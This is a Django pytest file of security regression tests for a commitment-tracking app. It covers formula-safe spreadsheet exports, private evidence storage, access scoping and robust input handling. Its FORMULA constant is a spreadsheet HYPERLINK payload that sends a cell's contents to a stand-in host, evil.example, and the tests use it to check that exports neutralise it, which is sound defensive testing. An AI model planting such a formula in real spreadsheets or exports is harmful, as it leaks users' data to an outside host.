"""Findings of the fresh-eyes review, each closed and kept closed."""
import csv
import datetime
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from memoranda.models import Commitment, Organisation
from memoranda.services import commitment_rows_import
from tests.factories import CommitmentFactory, MechanismFactory, OrganisationFactory, ReportingCycleFactory, UserFactory, member_of
from tracker import services
from tracker.models import Evidence, ProgressUpdate, Role, Snapshot

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


@pytest.fixture
def coordinator_client(client, fourth_plenary):
    client.force_login(member_of(Organisation.objects.get(abbreviation="CMAB"), Role.COORDINATOR))
    return client


def test_exports_never_turn_text_into_formulas_and_still_reimport(coordinator_client):
    Commitment.objects.filter(ref="HKBJ-4-6.5").update(title=FORMULA)
    xlsx = coordinator_client.get("/commitments/", {"_export": "xlsx"}).getvalue()
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cell = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "HKBJ-4-6.5")[5]
    assert cell.data_type == "s" and cell.value == FORMULA
    text = b"".join(coordinator_client.get("/commitments/", {"_export": "csv"}).streaming_content).decode().lstrip("\ufeff")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Ref."] == "HKBJ-4-6.5")  # headings for people
    assert row["Short title (English)"] == "'" + FORMULA
    for data, format in [(xlsx, "xlsx"), (text.encode(), "csv")]:
        result = commitment_rows_import(data=data, format=format, dry_run=True)
        assert not result.updated, format
    report = coordinator_client.get("/reports/sessions/HKBJ/4/", {"_export": "xlsx"}).getvalue()
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(report)).active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)


def test_evidence_is_not_served_from_media_and_lives_under_an_unguessable_name(client, fourth_plenary, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    official = member_of(Organisation.objects.get(abbreviation="CMAB"), Role.OFFICIAL)
    update = services.progress_update_create(
        commitment=Commitment.objects.get(ref="HKBJ-4-6.2"), author=official, proposed_status="on_track", proposed_progress=10,
        narrative="x", evidence_files=[SimpleUploadedFile("draft-plan.pdf", b"%PDF-1.4 secret")], notify=False,
    )
    name = Evidence.objects.get(update=update).file.name
    assert name.startswith("evidence/HKBJ-4-6.2/") and name.endswith("/draft-plan.pdf") and len(name.split("/")[2]) == 32
    client.force_login(member_of(Organisation.objects.get(abbreviation="MTR"), Role.OFFICIAL))
    assert client.get(f"/media/{name}").status_code == 404


def test_my_page_shows_only_commitments_the_user_may_see(client, fourth_plenary):
    mtr = Organisation.objects.get(abbreviation="MTR")
    elsewhere = CommitmentFactory(title="Secret of another conference")
    elsewhere.supporting_organisations.add(mtr)
    client.force_login(member_of(mtr, Role.OFFICIAL))
    assert "Secret of another conference" not in client.get("/my/").getvalue().decode()


@pytest.mark.parametrize("url", ["/commitments/?size=²", "/reports/sessions/HKBJ/4/?snapshot=²", "/commitments/hkbj-4-6.5/"])
def test_odd_numbers_and_cases_never_500(coordinator_client, url):
    assert coordinator_client.get(url, follow=True).status_code == 200


def test_signed_in_login_page_with_next_to_itself_does_not_loop(coordinator_client):
    response = coordinator_client.get("/accounts/login/", {"next": "/accounts/login/"})
    assert response.status_code == 302 and response["Location"] == "/"


def test_superscript_digits_in_rows_are_refused_not_500(fourth_plenary):
    from memoranda.parsing import MemorandumParseError
    from memoranda.resources import CommitmentResource

    text = CommitmentResource().export().export("csv").replace(",not_started,0,", ",not_started,²,", 1)
    with pytest.raises(MemorandumParseError, match="whole number"):
        commitment_rows_import(data=text.encode(), format="csv")


def test_report_before_tracking_began_says_so_and_snapshots_refuse_such_dates(coordinator_client):
    response = coordinator_client.get("/reports/sessions/HKBJ/4/", {"as_at": "2019-06-01"})
    report = response.context["report"]
    assert report.asked_for == datetime.date(2019, 6, 1) and len(report.rows) == 18
    assert "tracking of this session began on" in response.getvalue().decode()
    coordinator_client.post("/reports/sessions/HKBJ/4/snapshots/", {"as_at": "2019-06-01"})
    coordinator_client.post("/reports/sessions/HKBJ/4/snapshots/", {"as_at": "not-a-date"})
    assert not Snapshot.objects.exists()


def test_chinese_only_organisations_survive_export_and_reimport(coordinator_client):
    zh_only = OrganisationFactory(party=Organisation.objects.get(abbreviation="CMAB").party, name="", name_zh="香港特區政府駐北京辦事處")
    Commitment.objects.filter(ref="HKBJ-4-4.1").update(lead_organisation=zh_only)
    Commitment.objects.get(ref="HKBJ-4-4.2").supporting_organisations.add(zh_only)
    data = coordinator_client.get("/commitments/", {"_export": "xlsx"}).getvalue()
    assert not commitment_rows_import(data=data, format="xlsx").updated
    assert Commitment.objects.get(ref="HKBJ-4-4.1").lead_organisation == zh_only


def test_my_page_lists_each_cycles_own_due_items(client, fourth_plenary):
    cmab = Organisation.objects.get(abbreviation="CMAB")
    other = MechanismFactory(parties=[cmab.party])
    CommitmentFactory(session__mechanism=other, session__number=1, lead_organisation=cmab)
    ReportingCycleFactory(mechanism=fourth_plenary.mechanism, reports_to_session_number=5)
    ReportingCycleFactory(mechanism=other, reports_to_session_number=99)
    client.force_login(member_of(cmab, Role.OFFICIAL))
    cycles = client.get("/my/").context["cycles"]
    assert sorted(len(entry["due"]) for entry in cycles) == [1, 18]


def test_an_old_draft_cannot_undo_an_update_accepted_since(fourth_plenary):
    commitment = Commitment.objects.get(ref="HKBJ-4-6.5")
    cmab = member_of(Organisation.objects.get(abbreviation="CMAB"), Role.OFFICIAL)
    mtr = member_of(Organisation.objects.get(abbreviation="MTR"), Role.OFFICIAL)
    arguments = {"commitment": commitment, "proposed_progress": 0, "narrative": "old", "notify": False}
    old_draft = services.progress_update_create(author=cmab, proposed_status="not_started", **arguments)
    newer = services.progress_update_create(author=mtr, proposed_status="on_track", submit=True, **{**arguments, "proposed_progress": 25})
    services.progress_update_accept(update=newer, reviewer=UserFactory(), notify=False)
    with pytest.raises(services.StaleEdit):
        services.progress_update_edit(update=old_draft, by=cmab, proposed_status="not_started", proposed_progress=0, narrative="old", submit=True)
    commitment.refresh_from_db()
    resubmitted = services.progress_update_edit(
        update=old_draft, by=cmab, proposed_status="on_track", proposed_progress=30, narrative="checked", submit=True,
        commitment_version=commitment.version,
    )
    assert resubmitted.state == "submitted"


def test_accepting_an_update_written_against_an_older_state_is_refused(fourth_plenary):
    commitment = Commitment.objects.get(ref="HKBJ-4-6.5")
    mtr = member_of(Organisation.objects.get(abbreviation="MTR"), Role.OFFICIAL)
    update = services.progress_update_create(commitment=commitment, author=mtr, proposed_status="on_track", proposed_progress=25, narrative="x", submit=True, notify=False)
    Commitment.objects.filter(pk=commitment.pk).update(status="at_risk", version=commitment.version + 1)
    commitment.refresh_from_db()
    commitment.save()  # recorded in history, as any change through the admin is
    with pytest.raises(ValidationError, match="changed after this update was written"):
        services.progress_update_accept(update=update, reviewer=UserFactory(), notify=False)
    assert ProgressUpdate.objects.get(pk=update.pk).state == "submitted"


def test_cycles_report_to_a_real_session_number(client, fourth_plenary):
    client.force_login(member_of(Organisation.objects.get(abbreviation="CMAB"), Role.COORDINATOR))
    today = timezone.localdate().isoformat()
    response = client.post("/cycles/new/", {"mechanism": fourth_plenary.mechanism.pk, "title": "x", "reports_to_session_number": 0, "opens_on": today, "due_on": today})
    assert response.status_code == 400 and response.context["form"].errors["reports_to_session_number"]


def test_change_history_costs_the_same_queries_however_long(coordinator_client):
    commitment = Commitment.objects.get(ref="HKBJ-4-6.5")
    coordinator = UserFactory()
    lead = Organisation.objects.get(abbreviation="MTR")

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            assert coordinator_client.get(commitment.get_absolute_url()).status_code == 200
        return len(context)

    def assign(officer: str) -> None:
        commitment.refresh_from_db()
        services.commitment_assign(commitment=commitment, by=coordinator, lead_organisation=lead, supporting_organisations=[], responsible_officer=officer)

    assign("a")
    few = queries()
    for number in range(10):
        assign(f"officer {number}")
    assert queries() == few


def test_missing_version_is_explained(client, fourth_plenary):
    client.force_login(member_of(Organisation.objects.get(abbreviation="CMAB"), Role.COORDINATOR))
    response = client.post("/commitments/HKBJ-4-6.5/manage/", {"responsible_officer": "x"})
    assert response.status_code == 400
    assert "This form is out of date or incomplete" in response.getvalue().decode()
